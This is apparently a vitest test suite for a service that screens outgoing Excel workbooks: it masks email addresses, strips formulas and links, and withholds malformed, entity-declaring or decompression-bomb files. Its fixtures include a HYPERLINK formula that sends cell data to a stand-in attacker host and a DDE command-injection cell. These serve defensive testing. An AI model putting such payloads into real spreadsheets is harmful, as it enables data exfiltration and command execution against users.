import {
  array,
  assert,
  asyncProperty,
  boolean,
  constant,
  constantFrom,
  double,
  oneof,
  record,
  string,
  type Arbitrary,
} from 'fast-check'
import { describe, expect, it } from 'vitest'
import { readWorkbook } from '../../../../../src/gateway/screen/workbook/read-workbook.ts'
import { screenArtifact } from '../../../../../src/gateway/screen/artifact.ts'
import type { Cell, Workbook } from '../../../../../src/gateway/screen/workbook/workbook.ts'
import { writeWorkbook } from '../../../../../src/gateway/screen/workbook/write-workbook.ts'
import { limits, never, testScreener } from '../../../../support/filters/filter-fixtures.ts'
import { verifies } from '../../../../support/verifies.ts'
import { packed, partsOf, workbookType } from '../../../../support/workbooks/packed-workbook.ts'

const email = 'anna.berg@example.com'

async function screened(bytes: Buffer, maximumResultCharacters = 100_000) {
  const screener = testScreener({ limits: { ...limits, maximumResultCharacters }, hiddenSql: null })
  const file = { name: 'plan.xlsx', mediaType: workbookType, content: bytes.toString('base64') }
  const result = await screenArtifact(file, { screener, passesUnread: false }, never)
  return { result, findings: screener.takeFindings() }
}

/** What somebody reads who opens what left. */
async function leaving(parts: Readonly<Record<string, string | Buffer>>) {
  const { result, findings } = await screened(await packed(parts))
  if (result.kind === 'withheld') throw new Error(result.message)
  const bytes = Buffer.from(result.artifact.content, 'base64')
  const workbook = await readWorkbook(bytes, 1_000_000)
  return { workbook, bytes, isMasked: result.artifact.isMasked ?? false, findings }
}

const text = (at: string, value: string): string => `<c r="${at}" t="inlineStr"><is><t>${value}</t></is></c>`

/** All that was unpacked of an archive, as text. */
async function unpacked(bytes: Buffer): Promise<string> {
  const { WorkbookParts } = await import('../../../../../src/gateway/screen/workbook/parts.ts')
  const parts = await WorkbookParts.open(bytes)
  const names = ['[Content_Types].xml', '_rels/.rels', 'xl/workbook.xml', 'xl/_rels/workbook.xml.rels', 'xl/styles.xml']
  let all = ''
  for (const name of [...names, 'xl/worksheets/sheet1.xml']) for await (const piece of parts.text(name)) all += piece
  return all
}

describe('a workbook that leaves', () => {
  it('has the values that it had, with dates as dates', async () => {
    const shared =
      '<sst xmlns="m"><si><t>month</t></si><si><r><t>Ja</t></r><r><t>n &amp; Feb</t></r><rPh><t>x</t></rPh></si></sst>'
    const styles = `<styleSheet xmlns="m"><numFmts><numFmt numFmtId="170" formatCode="dd/mm/yyyy"/><numFmt numFmtId="171" formatCode="#,##0.00&quot;d&quot;"/></numFmts><cellStyleXfs><xf numFmtId="14"/></cellStyleXfs><cellXfs><xf numFmtId="0"/><xf numFmtId="170"/><xf numFmtId="171"/><xf numFmtId="22"/></cellXfs></styleSheet>`
    const rows =
      '<row r="1"><c r="A1" t="s"><v>0</v></c><c r="C1" t="s"><v>1</v></c></row>' +
      '<row r="3"><c r="A3" s="1"><v>45000</v></c><c r="B3" s="2"><v>1234.5</v></c><c r="C3" t="b"><v>1</v></c><c r="D3" s="3"><v>45000.25</v></c><c r="E3" t="e"><v>#N/A</v></c></row>'
    const { workbook, isMasked, findings } = await leaving(
      partsOf(rows, { 'xl/sharedStrings.xml': shared, 'xl/styles.xml': styles }),
    )
    expect(workbook.sheets).toEqual([
      {
        name: 'Sales',
        rows: [
          ['month', null, 'Jan & Feb'],
          [],
          [
            { number: 45_000, form: 'date' },
            { number: 1_234.5, form: 'plain' },
            true,
            { number: 45_000.25, form: 'date-time' },
            '#N/A',
          ],
        ],
      },
    ])
    expect({ isMasked, findings }).toEqual({ isMasked: false, findings: [] })
  })

  it('has nothing that a filter replaces, in cells, in the names of sheets and where codes spell it', async () => {
    verifies('filters.workbooks')
    const book = `<workbook xmlns="m" xmlns:r="r"><sheets><sheet name="${email}" sheetId="1" r:id="rId1"/></sheets></workbook>`
    const rows = `<row>${text('A1', email)}${text('B1', 'anna.berg_x0040_example.com')}<c t="str"><f>A1</f><v>${email}</v></c></row>`
    const { workbook, bytes, isMasked, findings } = await leaving(partsOf(rows, { 'xl/workbook.xml': book }))
    expect(workbook.sheets).toEqual([{ name: '_email_', rows: [['[email]', '[email]', '[email]']] }])
    expect(isMasked).toBe(true)
    expect(findings.map(({ rule }) => rule)).toContain('filter/pii-email')
    expect(await unpacked(bytes)).not.toContain('example.com')
  })

  it('has no formula, no link and nothing that a spreadsheet would load, and says which values are missing', async () => {
    verifies('filters.workbooks-inert')
    const rows =
      `<row><c r="A1"><f>HYPERLINK("https://evil.example/"&amp;B1)</f><v>7</v></c><x:c xmlns:x="m" r="B1"><x:f>SUM(A1)</x:f></x:c>` +
      `<c r="C1"><f t="shared" si="0"/></c>${text('D1', '=cmd|"/c calc"!A1')}</row>`
    const others = {
      'xl/externalLinks/externalLink1.xml': '<externalLink>evil.example</externalLink>',
      'xl/vbaProject.bin': 'evil.example',
      'xl/comments1.xml': 'evil.example',
      'docProps/core.xml': 'evil.example',
    }
    const { workbook, bytes, findings } = await leaving(partsOf(rows, others))
    expect(workbook.sheets[0]?.rows).toEqual([[{ number: 7, form: 'plain' }, null, null, '=cmd|"/c calc"!A1']])
    expect(findings.map(({ message }) => message)).toEqual([
      'The file "plan.xlsx" has values alone: 2 formulas without a value left out.',
    ])
    const all = await unpacked(bytes)
    expect(all).not.toMatch(/<f[ >]|evil\.example|definedName|hyperlink/)
    // A cell that is a text is none that is calculated, whatever it begins with.
    expect(all).toContain('t="inlineStr"><is><t xml:space="preserve">=cmd')
  })

  it('is read again as it was written, whatever the values are', async () => {
    const form = constantFrom('plain', 'date', 'time', 'date-time')
    const numbers = record({ number: double({ noNaN: true, noDefaultInfinity: true }), form })
    const word = string({ minLength: 1, unit: 'grapheme' }).filter((one) => !/[\p{Cc}\uFFFE\uFFFF]/u.test(one))
    const code = constantFrom('_x0041_', '__x0041__x0042_', '<&">', ' = ', '\u{1F600}')
    const filled = oneof(word, code, numbers, boolean()) as Arbitrary<NonNullable<Cell>>
    const row = array(oneof(filled, constant(null)), { maxLength: 30 }).chain((cells) =>
      filled.map((last) => cells.concat([last])),
    )
    await assert(
      asyncProperty(array(row, { maxLength: 5 }), boolean(), async (rows, countsFrom1904) => {
        const workbook: Workbook = { sheets: [{ name: 'One', rows }], countsFrom1904, formulasWithoutValue: 0 }
        const read = await readWorkbook(await writeWorkbook(workbook), 1_000_000)
        expect(read).toEqual(withoutNegativeZero(workbook))
      }),
      { numRuns: 60 },
    )
  })
})

/** `-0` is written as `0`. */
function withoutNegativeZero(workbook: Workbook): Workbook {
  const plain = (cell: Cell): Cell =>
    typeof cell === 'object' && cell !== null ? { number: cell.number === 0 ? 0 : cell.number, form: cell.form } : cell
  const sheets = workbook.sheets.map(({ name, rows }) => ({ name, rows: rows.map((row) => row.map(plain)) }))
  return { ...workbook, sheets }
}

describe('a file that says that it is a workbook', () => {
  const sheet = (attributes: string) => `<row><c ${attributes}><v>1</v></c></row>`
  const doctype =
    '<!DOCTYPE x [<!ENTITY e "anna.berg@example.com">]><worksheet><sheetData><row><c t="str"><v>&e;</v></c></row></sheetData></worksheet>'
  it.each<[string, Readonly<Record<string, string | Buffer>>, string]>([
    ['without a workbook', { 'a.txt': email }, 'it is no workbook of Excel'],
    ['without cells', partsOf('', { 'xl/_rels/workbook.xml.rels': '<Relationships/>' }), 'it has no sheet with cells'],
    [
      'whose sheet is elsewhere',
      partsOf('', {
        'xl/_rels/workbook.xml.rels':
          '<Relationships><Relationship Id="rId1" Target="/xl/worksheets/none.xml"/></Relationships>',
      }),
      'a part of it is missing',
    ],
    [
      'whose sheet is cut off',
      partsOf('', { 'xl/worksheets/sheet1.xml': '<worksheet><sheetData><row>' }),
      'a part of it is no well-formed XML',
    ],
    [
      'that declares entities',
      partsOf('', { 'xl/worksheets/sheet1.xml': doctype }),
      'a part of it declares a type of document',
    ],
    [
      'in UTF-16',
      partsOf('', { 'xl/worksheets/sheet1.xml': Buffer.from('\uFEFF<worksheet/>', 'utf16le') }),
      'a part of it cannot be unpacked as text',
    ],
    [
      'that says another encoding',
      partsOf('', { 'xl/worksheets/sheet1.xml': '<?xml version="1.0" encoding="UTF-7"?><worksheet/>' }),
      'a part of it is not in UTF-8',
    ],
    ['with a cell behind the last column', partsOf(sheet('r="XFE1"')), 'a cell of it is at no place that a sheet has'],
    ['with a cell of no name', partsOf(sheet('r="1A"')), 'a cell of it is at no place that a sheet has'],
    [
      'with a row behind the last',
      partsOf('<row r="1048577"><c><v>1</v></c></row>'),
      'a cell of it is at no place that a sheet has',
    ],
    ['with a text that is not there', partsOf(sheet('t="s"')), 'a cell of it names a text that is not there'],
    [
      'with rows of nothing up to a last cell, often',
      partsOf(`<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>`),
      'it has too many cells',
    ],
    [
      'with more text than is checked',
      partsOf(`<row>${text('A1', 'x'.repeat(100_001))}</row>`),
      'it has more text than is checked of a file',
    ],
  ])('%s is withheld', async (_what, parts, why) => {
    const { result } = await screened(await packed(parts))
    expect(result).toEqual({
      kind: 'withheld',
      message: `The file "plan.xlsx" was withheld: no filter can read it as a workbook, ${why}. Write its tables as CSV.`,
    })
  })

  it('and is none, or is cut off, is withheld', async () => {
    const whole = await packed(partsOf(sheet('r="A1"')))
    for (const bytes of [
      Buffer.from(email),
      Buffer.alloc(0),
      whole.subarray(0, whole.length - 30),
      whole.subarray(40),
    ]) {
      expect((await screened(bytes)).result).toMatchObject({ kind: 'withheld' })
    }
  })

  it('and becomes too large when it is unpacked is withheld', async () => {
    const strings = `<sst>${' '.repeat(66 * 1_024 * 1_024)}</sst>`
    const bytes = await packed(partsOf('', { 'xl/sharedStrings.xml': strings }))
    expect(bytes.length).toBeLessThan(100_000)
    const message = expect.stringContaining('it becomes too large when it is unpacked') as string
    expect((await screened(bytes)).result).toMatchObject({ message })
  })

  it('has a part twice, of which a reader could take either, and is withheld', async () => {
    const bytes = await packed({ ...partsOf(sheet('r="A1"')), 'xl/worksheets/sheet2.xml': '<worksheet/>' })
    const twice = Buffer.from(bytes.toString('latin1').replaceAll('sheet2.xml', 'sheet1.xml'), 'latin1')
    expect((await screened(twice)).result).toMatchObject({ message: expect.stringContaining('there twice') as string })
  })
})
